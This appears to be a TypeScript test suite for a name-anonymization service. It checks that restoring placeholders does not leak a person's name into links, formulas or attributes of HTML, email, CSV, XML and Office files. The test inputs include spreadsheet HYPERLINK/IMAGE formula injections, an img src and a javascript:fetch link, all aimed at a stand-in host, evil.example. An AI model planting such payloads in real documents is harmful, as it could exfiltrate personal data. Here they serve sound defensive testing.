import { strToU8, unzipSync, zipSync } from 'fflate';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { HOSTILE_FORMS, ORDINARY_FORMS, type TestUser } from '@app/testing';
import { ApiClient } from '../../support/api-client';
import { FIXTURES } from '../../support/files/edit-fixtures';
import { useApiAndWorker } from '../api-and-worker/scene';

const NAME = 'Wilhelmine Brandstetter';
const WRITTEN = '[NAME_1]';
const EVIL = 'https://evil.example/?q=';
const scene = useApiAndWorker();

/** Forms that no reader of HTML sends without a click on a button, or at all. */
const NOT_OF_PAGES = /<(?:input|form|person|svg:)|^`/i;

const page = (inner: string): string => `<!doctype html><html><body><p>Report</p>${inner}</body></html>`;
const mail = (inner: string): string =>
  `From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${page(inner)}`;

/** Returns an Office file of the fixtures with one of its parts changed. */
function officeFile(name: string, part: string, change: (text: string) => string): Buffer {
  const parts = unzipSync(readFileSync(join(FIXTURES, name)));
  const text = Buffer.from(parts[part]!).toString();
  expect(change(text)).not.toBe(text);
  return Buffer.from(zipSync({ ...parts, [part]: strToU8(change(text)) }));
}
const everythingIn = (name: string, bytes: Buffer): string =>
  /\.(?:docx|xlsx|pptx|ods|odt)$/.test(name)
    ? Object.values(unzipSync(bytes))
        .map((part) => Buffer.from(part).toString())
        .join('\n')
    : bytes.toString();

describe('a file that its editor wrote to send a value away', () => {
  let user: TestUser;
  let caseId: string;

  const send = async (path: 'anonymize' | 'restore', name: string, content: string | Buffer) => {
    const form = new FormData();
    form.append('case_id', caseId);
    if (path === 'anonymize') form.append('choices', 'Names');
    if (path === 'anonymize') form.append('lang', 'en');
    form.append('file', new Blob([new Uint8Array(Buffer.from(content))]), name);
    const response = await fetch(scene.system.ai(`files/${path}`), {
      method: 'POST',
      headers: user.authorization,
      body: form,
    });
    return { status: response.status, bytes: Buffer.from(await response.arrayBuffer()) };
  };

  beforeAll(async () => {
    user = await scene.system.user();
    const api = new ApiClient(scene.system, user);
    const created = await api.post<{ data: { case_id: string } }>('cases', { style: 'placeholders' });
    caseId = created.body.data.case_id;
    expect((await send('anonymize', 'a.txt', `Write to ${NAME}.`)).bytes.toString()).toBe(
      `Write to ${WRITTEN}.`,
    );
  });

  const attributes = HOSTILE_FORMS['HTML attributes']!.filter((form) => !NOT_OF_PAGES.test(form));

  it.each(attributes)('gets no value in an attribute of a page: %j [SEC-219]', async (form) => {
    const written = form.replaceAll('%', WRITTEN);
    for (const [name, whole] of [
      ['a.html', page(written)],
      ['a.eml', mail(written)],
    ] as const) {
      const { status, bytes } = await send('restore', name, whole);
      expect(status).toBe(200);
      expect(bytes.toString()).not.toMatch(/Wilhelmine|Brandstetter/);
    }
  });

  it.each([
    ['a.csv', `name;x\r\n${WRITTEN};"=HYPERLINK(""${EVIL}"" & ""${WRITTEN}"";""x"")"\r\n`, 1],
    ['a.csv', `name;x\r\n${WRITTEN};"=IMAGE(""${EVIL} ${WRITTEN}"")"\r\n`, 1],
    ['a.xml', `<r><a by="${WRITTEN}"/><img src="${EVIL} ${WRITTEN}"/></r>`, 1],
    ['a.xml', `<r><a by="${WRITTEN}"/><b to="see //evil.example/? ${WRITTEN}"/></r>`, 1],
    ['a.xml', `<r><a by="${WRITTEN}"/><b xlink:href="javascript:fetch('x' + ' ${WRITTEN}')"/></r>`, 1],
  ])('gets its value in a text of %s, and none in an address: %s', async (name, content, count) => {
    const { status, bytes } = await send('restore', name, content);
    expect(status).toBe(200);
    expect(bytes.toString().match(/Wilhelmine/g)).toHaveLength(count);
  });

  it.each([
    ['docx/links.docx', 'word/_rels/document.xml.rels', /(Target=")mailto:[^"]*(")/],
    ['xlsx/table.xlsx', 'xl/worksheets/sheet1.xml', /(<f>)[^<]+(<\/f>)/],
  ])('gets no value in the links and formulas of %s', async (fixture, part, place) => {
    for (const address of [
      `${EVIL} ${WRITTEN}`,
      `${EVIL}%20%5BNAME_1%5D`,
      `HYPERLINK("${EVIL}"&amp;"${WRITTEN}","x")`,
      `IMAGE("${EVIL} ${WRITTEN}")`,
    ].filter((address) => address.startsWith('http') === part.endsWith('.rels'))) {
      const file = officeFile(fixture, part, (text) =>
        text.replace(
          place,
          (_, before: string, after: string) =>
            before + (part.endsWith('.rels') ? address : address.replaceAll('"', '&quot;')) + after,
        ),
      );
      const { status, bytes } = await send('restore', fixture.split('/')[1]!, file);
      expect(status).toBe(200);
      expect(everythingIn(fixture, bytes)).not.toMatch(/Wilhelmine|Brandstetter/);
    }
  });

  it('gets its values in addresses that were hidden in it', async () => {
    const content = page(
      `<a href="mailto:x@example.org?subject=For ${NAME} only">a</a><img alt="${NAME}" src="https://example.org/? ${NAME}">`,
    );
    const hidden = await send('anonymize', 'b.html', content);
    expect(hidden.bytes.toString()).not.toMatch(/Wilhelmine/);
    const restored = await send('restore', 'b.html', hidden.bytes);
    expect(restored.bytes.toString()).toBe(content);
  });

  it.each(ORDINARY_FORMS.filter((form) => form.includes('<')))(
    'gets its value in the page %j',
    async (form) => {
      const { bytes } = await send('restore', 'a.html', page(form.replaceAll('%', WRITTEN)));
      expect(bytes.toString()).toMatch(/Wilhelmine/);
    },
  );
});
